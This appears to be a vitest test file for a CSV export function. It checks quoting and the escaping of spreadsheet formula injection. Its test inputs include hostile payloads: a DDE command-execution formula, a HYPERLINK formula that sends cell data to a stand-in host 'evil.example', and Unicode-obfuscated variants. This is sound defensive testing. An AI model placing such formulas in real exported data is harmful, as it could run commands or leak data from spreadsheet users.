import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { propertyRuns } from '@/testing/property-runs';
import { measureProcessorMs } from '@/testing/processor-time';
import { toCsvLine } from './csv';

const cell = (text: string) => toCsvLine([text]);

describe('toCsvLine', () => {
  test('quotes texts and ends with CRLF, as RFC 4180 requires', () => {
    expect(toCsvLine(['a', 1, true, null, undefined, ''])).toBe('"a",1,true,,,""\r\n');
  });

  test('keeps quotes, commas and line breaks inside a cell', () => {
    expect(cell('say "no", then\r\nleave\nnow')).toBe('"say ""no"", then\r\nleave\nnow"\r\n');
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\tplain',
    '  \tplain',
    '   =1',
    '"=1"',
    `'"=1`,
    '\u00A0=1',
    '\u3000=1',
    '\uFEFF=1',
    '\u202E=1',
    '\u2066\u200B@x',
    '＝1+1',
    '－2',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
  ])('escapes the formula %j', (text) => {
    expect(cell(text)).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
  });

  test.each([
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['x;=HYPERLINK(1);y', "x;'=HYPERLINK(1);y"],
    ["z;=cmd|'/C calc'!A1;", "z;'=cmd|'/C calc'!A1;"],
    ['a; "=1"; ＝2', 'a;\' ""=1"";\' ＝2'],
    ['a\t=1\t+2', "a\t'=1\t'+2"],
    ['a|@b', "a|'@b"],
    ['first\n- second\r\n=3', "first\n'- second\r\n'=3"],
    ['a\u2028=1\v-2\u0085+3', "a\u2028'=1\v'-2\u0085'+3"],
    ['a;\u200b\u202e=1', "a;'\u200b\u202e=1"],
  ])('escapes formulas inside the cell %j, which other spreadsheets split', (text, escaped) => {
    expect(cell(text)).toBe(`"${escaped}"\r\n`);
  });

  test('a cell has no formula at any separator of cells or lines', () => {
    const part = fc.constantFrom(...Array.from(';,|\t\r\n\v\u2028=+-@＝"\' \u200b\u00a0a1'));
    fc.assert(
      fc.property(fc.array(part, { maxLength: 20 }), (parts) => {
        const line = cell(parts.join('')).slice(1, -3).replaceAll('""', '"');
        for (const each of line.split(/[;|\t\r\n\v\u2028]/))
          expect(each).not.toMatch(/^[\s"\u200b]*[=+\-@＝]/);
      }),
      propertyRuns(2_000),
    );
  });

  test.each([
    'a=1',
    'a; b, c | d\te\nf',
    '1; 2 - 3',
    '任务-1',
    'x@example.com',
    '36db69c5-b2d5-11eb-b044-0255ac101219',
    '"quoted"',
    ' 5',
    '\u202Eabc',
  ])('leaves %j unchanged', (text) => {
    expect(cell(text)).toBe(`"${text.replaceAll('"', '""')}"\r\n`);
  });

  test('truncates a long cell in linear time', () => {
    for (const part of ['x', ';', '; ', ' ', '"', "'", '\u202E', '=']) {
      const text = part.repeat(1024 * 1024);
      const line = cell(text);
      expect(line.length).toBeLessThan(64_010);
      expect(line).toMatch(/…"\r\n$/);
      expect(
        measureProcessorMs(() => cell(text)),
        part,
      ).toBeLessThan(250);
    }
  });

  test('replaces a NUL character', () => {
    expect(cell('a\0b')).toBe('"a\uFFFDb"\r\n');
  });
});
